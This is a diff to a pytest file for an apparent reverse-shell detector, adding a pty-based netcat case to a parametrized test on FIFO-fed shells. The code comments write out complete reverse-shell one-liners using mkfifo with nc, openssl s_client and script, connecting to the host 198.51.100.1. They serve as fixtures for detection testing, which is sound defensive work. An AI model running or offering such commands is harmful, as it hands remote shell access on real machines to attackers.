@@ -77,14 +77,16 @@ def test_benign_work_raises_nothing():
     assert alerts("benign.capture", SHORT) == []
 
 
-@pytest.mark.parametrize("helper", ["nc", "openssl"])
+@pytest.mark.parametrize("helper", ["nc", "openssl", "nc-pty"])
 def test_shell_fed_and_answered_through_a_fifo(helper):
     # rm -f F; mkfifo F; cat F | /bin/sh -i 2>&1 | nc 198.51.100.1 4451 > F   (openssl: sh -i < F 2>&1 |
-    # openssl s_client -quiet -connect 198.51.100.1:4452 > F); the test host sent `echo pwned-$((6*7)); exit`
+    # openssl s_client -quiet -connect 198.51.100.1:4452 > F; nc-pty: cat F | script -qfc '/bin/sh -i'
+    # /dev/null 2>&1 | nc ...); the test host sent `echo pwned-$((6*7)); exit`
     docs = alerts(f"pipes_fifo_reverse_shell_{helper}.capture")
     assert rules(docs) == ["reverse_shell"]
     message = docs[0]["message"]
-    assert helper in message and "fifo:[" in message and "`/bin/sh -i`" in message, message
+    assert helper.split("-")[0] in message and "fifo:[" in message and "`/bin/sh -i`" in message, message
+    assert ("pty:[" in message) == (helper == "nc-pty"), message
     assert docs[0]["process"]["args"] == ["/bin/sh", "-i"]
     assert docs[0]["destination"]["ip"] == "198.51.100.1" and docs[0]["network"]["community_id"]
 
